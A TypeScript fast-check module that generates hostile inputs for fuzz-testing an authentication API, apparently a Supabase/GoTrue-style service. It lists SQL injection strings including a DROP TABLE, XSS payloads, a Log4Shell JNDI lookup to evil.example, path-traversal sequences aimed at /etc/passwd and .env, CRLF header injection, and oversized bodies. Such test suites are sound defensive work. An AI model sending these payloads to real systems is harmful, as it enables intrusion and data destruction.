import fc from 'fast-check';

/** Strings an attacker (or a broken client) sends: injection, markup, control and odd Unicode. */
export const NASTY_STRINGS = [
  "' or '1'='1",
  "'; drop table auth.users; --",
  'admin@example.com\' --',
  '1; select pg_sleep(10)',
  '$1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '\u0000',
  'a@b.co\u0000',
  'nul\u0000in the middle',
  '\uFEFFbom@example.com',
  '\u202Egnp.exe',
  '\uD800',
  '\uDFFF lone',
  '𝔞𝔡𝔪𝔦𝔫@𝔢𝔵𝔞𝔪𝔭𝔩𝔢.com',
  'Ω≈ç√∫˜µ≤≥÷',
  '👩‍👩‍👧‍👦'.repeat(50),
  'ＡＢＣ@ｅｘａｍｐｌｅ.com',
  'x'.repeat(10_000),
  ' ',
  '',
  '\r\nSet-Cookie: a=b',
  '%00%0d%0a',
  'null',
  'true',
  '-1',
  '1e309',
  '0x41',
];

export const nastyString = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 64 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 64 }) },
  { weight: 1, arbitrary: fc.emailAddress() },
);

/** Any JSON value, often of the wrong type for the field it lands in. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string({ maxLength: 8 }), { maxLength: 4 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }),
  fc.constant({}),
  fc.constant([]),
);

/** Text that is not JSON, or not quite. */
export const brokenJson = fc.oneof(
  fc.constantFrom(
    '{',
    '{"email":',
    '[1,2',
    'nul',
    '{"a":1}}',
    "{'email':'a@b.co'}",
    '{"email":"a@b.co",}',
    '{"email":"a@b.co" "password":"x"}',
    '\u0000',
    '{"email":"\\ud800"}',
    '{"password":"\\u0000"}',
    '{"a":NaN}',
    '{"a":Infinity}',
    '01',
    '"just a string"',
    '42',
    'true',
    '[]',
    '<xml/>',
    'email=a%40b.co&password=secret',
  ),
  fc.string({ maxLength: 200 }),
);

/** `[[[…]]]` or `{"a":{"a":…}}` nested `depth` levels. */
export function deeplyNested(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array' ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
}

export const deepJson = fc
  .record({ depth: fc.constantFrom(100, 1_000, 10_000, 100_000), kind: fc.constantFrom<'array' | 'object'>('array', 'object') })
  .map(({ depth, kind }) => deeplyNested(depth, kind));

/** Fields an endpoint reads; the generators fill them with valid, hostile or wrong-typed values. */
export const FIELDS = [
  'email',
  'phone',
  'password',
  'data',
  'refresh_token',
  'auth_code',
  'code_verifier',
  'code_challenge',
  'code_challenge_method',
  'type',
  'token',
  'token_hash',
  'nonce',
  'options',
  'user_metadata',
  'app_metadata',
  'email_confirm',
  'ban_duration',
  'role',
  'factor_type',
  'friendly_name',
  'challenge_id',
  'code',
  'should_soft_delete',
  'create_user',
  'gotrue_meta_security',
  'new_email',
  'id_token',
  'provider',
  'issuer',
  'client_id',
  'link_identity',
  'chain',
  'message',
  'signature',
  'provider_id',
  'domain',
] as const;

const fieldValue = fc.oneof(
  { weight: 3, arbitrary: nastyString },
  { weight: 2, arbitrary: wrongType },
  {
    weight: 1,
    arbitrary: fc.constantFrom('secret12', 'email', 'signup', 'recovery', 'totp', 's256', 'password', 'sms', 'email_change_new', 'google', 'apple', '15551234567'),
  },
);

/** A JSON object of known fields with hostile values, plus sometimes unknown extra fields. */
export const hostileObject = fc
  .record({
    known: fc.dictionary(fc.constantFrom(...FIELDS), fieldValue, { maxKeys: 5 }),
    extra: fc.dictionary(fc.string({ maxLength: 12 }), fc.jsonValue({ maxDepth: 3 }), { maxKeys: 3 }),
  })
  .map(({ known, extra }) => ({ ...extra, ...known }));

/** A plausible sign-up/sign-in body whose `data` (user metadata) is very deep or very wide. */
export const hostileMetadataBody = fc
  .record({ email: fc.emailAddress(), deep: deepJson })
  .map(({ email, deep }) => `{"email":${JSON.stringify(email)},"password":"secret123","data":${deep},"user_metadata":${deep}}`);

/** About one mebibyte: just under, at and over the 1 MiB body limit. */
export const hugeBody = fc
  .record({ size: fc.constantFrom(1024 * 1024 - 64, 1024 * 1024, 1024 * 1024 + 1, 2 * 1024 * 1024), shape: fc.constantFrom('string', 'array', 'garbage') })
  .map(({ size, shape }) => {
    if (shape === 'string') return `{"email":"a@b.co","password":"${'p'.repeat(Math.max(0, size - 40))}"}`;
    if (shape === 'array') return `{"data":[${'1,'.repeat(Math.floor(size / 2) - 10)}1]}`;
    return 'z'.repeat(size);
  });

/** Any request body a hostile client might send. */
export const hostileBody: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 1, arbitrary: fc.constant(undefined) },
  { weight: 4, arbitrary: brokenJson },
  { weight: 8, arbitrary: hostileObject.map((body) => JSON.stringify(body)) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((value) => JSON.stringify(value)) },
  { weight: 1, arbitrary: hostileMetadataBody },
  { weight: 1, arbitrary: deepJson },
  { weight: 1, arbitrary: hugeBody },
);

export const hostileContentType = fc.constantFrom(
  'application/json',
  'application/json;charset=UTF-8',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-16',
  '',
  'application/octet-stream',
  '*/*',
  ';;;',
);

/** Extra query-string parameters, some valid, some not. */
export const hostileQuery = fc
  .dictionary(
    fc.constantFrom('grant_type', 'redirect_to', 'scope', 'type', 'token', 'page', 'per_page', 'apikey', 'x'),
    fc.oneof(nastyString, fc.constantFrom('password', 'refresh_token', 'pkce', 'global', 'local', 'others', 'https://evil.example/', '-1', '1e9')),
    { maxKeys: 3 },
  )
  .map((params) => {
    const search = new URLSearchParams();
    for (const [key, value] of Object.entries(params)) search.append(key, value.replace(/[\uD800-\uDFFF]/g, '?'));
    return search.toString();
  });

/** Header values too large for any sane server, and headers in odd shapes. */
export const hostileHeaders = fc.oneof(
  { weight: 6, arbitrary: fc.constant<Record<string, string>>({}) },
  { weight: 1, arbitrary: fc.constantFrom(8 * 1024, 15 * 1024, 64 * 1024).map((size) => ({ 'x-padding': 'h'.repeat(size) })) },
  { weight: 1, arbitrary: fc.constant({ 'x-supabase-api-version': '9999-99-99' }) },
  { weight: 1, arbitrary: fc.constant({ 'x-jwt-aud': 'someone-else' }) },
  { weight: 1, arbitrary: fc.constant({ origin: 'https://evil.example' }) },
  { weight: 1, arbitrary: fc.constant({ 'x-forwarded-for': '1.2.3.4, 5.6.7.8' }) },
  { weight: 1, arbitrary: fc.constant({ 'accept-encoding': 'br;q=abc, gzip;q=-1, *;q=2' }) },
);

/** Path segments that try to climb out of the served directory, raw and encoded every which way. */
const traversalPart = fc.constantFrom(
  '..',
  '.',
  '%2e%2e',
  '%2E%2E',
  '.%2e',
  '%2e.',
  '%252e%252e',
  '%c0%ae%c0%ae',
  '..%00',
  '....',
  '..;',
  '..%2f..',
  '..%5c..',
  '..\\..',
  'assets',
  'media',
  'secret.txt',
  '.env',
  'etc',
  'passwd',
  'index.html',
  'clip.mp4',
  'jwt-secret',
  'db',
  'pgdata',
  '%00',
  '',
);

const separator = fc.constantFrom('/', '/', '/', '%2f', '%2F', '\\', '%5c', '//');

export const traversalPath = fc
  .record({
    prefix: fc.constantFrom('', '/assets', '/media', '/auth/v1', '/_mail', '/videos'),
    parts: fc.array(fc.record({ part: traversalPart, sep: separator }), { minLength: 1, maxLength: 8 }),
    query: fc.constantFrom('', '?', '?a=..%2f..%2fsecret.txt', '#frag'),
  })
  .map(({ prefix, parts, query }) => prefix + parts.map(({ part, sep }) => sep + part).join('') + query)
  .map((path) => (path.startsWith('/') ? path : `/${path}`));

export const hostileRange = fc.oneof(
  fc.constantFrom(
    'bytes=abc',
    'bytes=-',
    'bytes=5-1',
    'bytes=-0',
    'bytes=0-0,-1',
    'bytes=99999999999999999999-',
    'bytes=-99999999999999999999',
    'bytes=0-18446744073709551616',
    'items=0-1',
    'bytes= 0 - 1',
    'bytes=0-1'.concat(',0-1'.repeat(2_000)),
    'bytes=1-2,3-4,5-6',
    'bytes=0-',
    'bytes=65535-',
    'bytes=65536-',
    'bytes=-65537',
    '',
    'bytes',
    'bytes==0-1',
    'bytes=0x10-0x20',
    'bytes=1e3-2e3',
  ),
  fc.string({ maxLength: 40 }).map((text) => text.replace(/[^\x20-\x7e]/g, '')),
);
